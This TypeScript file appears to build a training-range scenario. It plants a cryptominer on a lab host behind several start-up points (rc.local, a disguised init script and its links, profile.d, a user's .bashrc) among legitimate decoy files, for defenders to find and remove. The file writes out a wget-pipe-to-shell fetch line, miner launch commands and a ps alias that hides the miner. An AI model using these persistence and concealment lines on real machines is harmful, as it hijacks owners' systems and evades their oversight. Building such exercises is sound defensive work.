// One payload behind every door that opens at boot, at login or at an installation: rc.local, an init script with its links, profile.d, a user's own
// .bashrc, and every part in the folder startup-parts. Beside each stands the owner's own, which must stay byte for byte. Cron is only one door more.
import { mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { RangeHost } from '../host.ts'
import { world } from '../net.ts'
import { cronMiner } from './cron-miner.ts'
import { decoyFiles, decoyProcesses, legitimatePreload, plantDecoys } from './decoys.ts'
import { append, put } from './plant.ts'
import { fakeWallet, untilMining } from './mining.ts'
import type { DecoyFile, HostileFile, Scenario } from './scenario.ts'

/** One more door, in a file of its own below startup-parts: nothing else needs to know of it. */
export interface StartupPart {
  /** `start` is a command line that starts the payload. */
  plant(host: RangeHost, start: string): void
  readonly hostileFiles: readonly HostileFile[]
  readonly decoyFiles: readonly DecoyFile[]
}

const folder = join(import.meta.dirname, 'startup-parts')
const parts = await Promise.all(
  readdirSync(folder).map(async (name) => ((await import(join(folder, name))) as { readonly part: StartupPart }).part),
)

const miner = cronMiner('/usr/lib/.lab_sys', 'lab_netdns', '/etc/cron.d/lab-netdns')
const start = `${miner.payload} -B -o stratum+tcp://pool.range.test:${world.poolPort} -u ${fakeWallet} -p x`
const fetch = `wget -q -O- http://${world.downloads}/lab_update.sh | sh >/dev/null 2>&1`

const rcLine = `nohup ${start} >/dev/null 2>&1 &`
/** A whole block: taking one line out of it would leave a shell that cannot read its start-up file. */
const rcBlock = ['if [ ! -e /run/lab_seen ]; then', `  ${fetch}`, 'fi']
const fetchLine = `(${fetch} &)`
const aliasLine = `alias ps='ps_() { command ps "$@" | grep -v lab_netdns; }; ps_'`

const initScript = `#!/bin/sh
# chkconfig: 12345 90 90
### BEGIN INIT INFO
# Provides:          lab-selinux
# Default-Start:     2 3 4 5
# Short-Description: selinux
### END INIT INFO
case $1 in
start)
  ${start} >/dev/null 2>&1
  ;;
esac
`
const links = ['2', '3', '4', '5'].map((level) => `/etc/rc${level}.d/S90lab-selinux`)

const ownInit = `#!/bin/sh
### BEGIN INIT INFO
# Provides:          meter
# Default-Start:     2 3 4 5
# Short-Description: reads the power meter
### END INIT INFO
case "$1" in
start) /opt/tool/bin/crunch --once & ;;
stop) : ;;
*) echo "usage: $0 start|stop" >&2; exit 2 ;;
esac
`

const bashrc = `# ~/.bashrc of dev
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
export NVM_DIR="$HOME/.nvm"
[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"  # This loads nvm
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
    alias grep='grep --color=auto'
fi
alias ll='ls -alF'
alias psg='ps aux | grep -v grep | grep -i'
export PATH="$HOME/.local/bin:$HOME/.cargo/bin:$PATH"
eval "$(starship init bash)"
`

const hostileFiles: readonly HostileFile[] = [
  ...miner.files,
  { path: '/etc/rc.local', remove: { lines: [rcLine, ...rcBlock] } },
  { path: '/etc/init.d/lab-selinux', remove: 'whole' },
  ...links.map((path): HostileFile => ({ path, remove: 'whole' })),
  { path: '/etc/profile.d/lab_php.sh', remove: 'whole' },
  { path: '/home/dev/.bashrc', remove: { lines: [aliasLine, fetchLine] } },
  ...parts.flatMap((part) => part.hostileFiles),
]

const ownFiles: readonly DecoyFile[] = [
  { path: '/etc/init.d/meter', looks: 'an init script of nobody’s that leaves a program of nobody’s running' },
  { path: '/etc/rc2.d/S20meter', looks: 'a link by which it starts' },
  { path: '/etc/profile.d/java.sh', looks: 'a profile.d script that no package owns' },
  { path: '/etc/profile.d/proxy.sh', looks: 'fetches an address at every login, and runs nothing of it' },
  { path: '/home/deploy/.bashrc', looks: 'nvm, starship, aliases, a filter over ps' },
  { path: '/home/deploy/.profile', looks: 'starts an agent in the background' },
  { path: '/root/.bash_aliases', looks: 'puts another tool in the place of top' },
  ...parts.flatMap((part) => part.decoyFiles),
]

export const startups: Scenario = {
  name: 'startups',
  about:
    'one payload behind rc.local, an init script, profile.d, a user’s .bashrc, hooks of apt and logins, and other doors',
  plant: async (host) => {
    put(host, '/etc/ld.so.preload', `${legitimatePreload}\n`)
    await plantDecoys(host)
    plantOwn(host)
    plantHostile(host)
    for (const part of parts) part.plant(host, start)
    await miner.plant(host)
    await untilMining(host, startups)
  },
  hostileFiles,
  dormantFiles: [],
  attackerFolders: [miner.folder],
  hostileProcesses: miner.processes,
  decoyFiles: [...decoyFiles, ...ownFiles],
  decoyProcesses,
  revivePeriod: 60,
  expectedUndoFiles: hostileFiles.map(({ path }) => path),
}

function plantOwn(host: RangeHost): void {
  put(host, '/etc/init.d/meter', ownInit, { mode: 0o755 })
  link(host, '/etc/rc2.d/S20meter', '../init.d/meter')
  put(
    host,
    '/etc/profile.d/java.sh',
    'export JAVA_HOME=/usr/lib/jvm/default-java\nexport PATH="$JAVA_HOME/bin:$PATH"\n',
  )
  put(
    host,
    '/etc/profile.d/proxy.sh',
    `# where are we?\nSITE=$(wget -q -T 1 -O- http://${world.downloads}/site 2>/dev/null || echo none)\nexport SITE\n`,
  )
  put(host, '/home/deploy/.bashrc', bashrc, { owner: 'deploy' })
  put(
    host,
    '/home/deploy/.profile',
    '[ -n "$SSH_AUTH_SOCK" ] || eval "$(ssh-agent -s)" >/dev/null\nif [ -x "$HOME/bin/sync-notes" ]; then\n  "$HOME/bin/sync-notes" --daemon &\nfi\n',
    { owner: 'deploy' },
  )
  put(host, '/root/.bash_aliases', "alias top='htop'\nalias vi=vim\n")
}

function plantHostile(host: RangeHost): void {
  const fresh = { daysOld: 0 }
  mkdirSync(host.downloads, { recursive: true })
  writeFileSync(join(host.downloads, 'lab_update.sh'), `${start}\n`)
  put(
    host,
    '/etc/rc.local',
    `#!/bin/sh -e\n# quiet disks\n[ ! -x /usr/sbin/hdparm ] || hdparm -q -S 240 /dev/sda\n${rcLine}\n${rcBlock.join('\n')}\nexit 0\n`,
    { mode: 0o755, ...fresh },
  )
  put(host, '/etc/init.d/lab-selinux', initScript, { mode: 0o755, ...fresh })
  for (const path of links) link(host, path, '../init.d/lab-selinux')
  put(host, '/etc/profile.d/lab_php.sh', `#!/bin/sh\n[ -e ${miner.payload} ] || { ${fetch}; }\n`, fresh)
  put(host, '/home/dev/.bashrc', bashrc, { owner: 'dev' })
  append(host, '/home/dev/.bashrc', aliasLine)
  append(host, '/home/dev/.bashrc', fetchLine)
}

function link(host: RangeHost, path: string, target: string): void {
  mkdirSync(join(host.dir, path, '..'), { recursive: true })
  symlinkSync(target, join(host.dir, path))
}
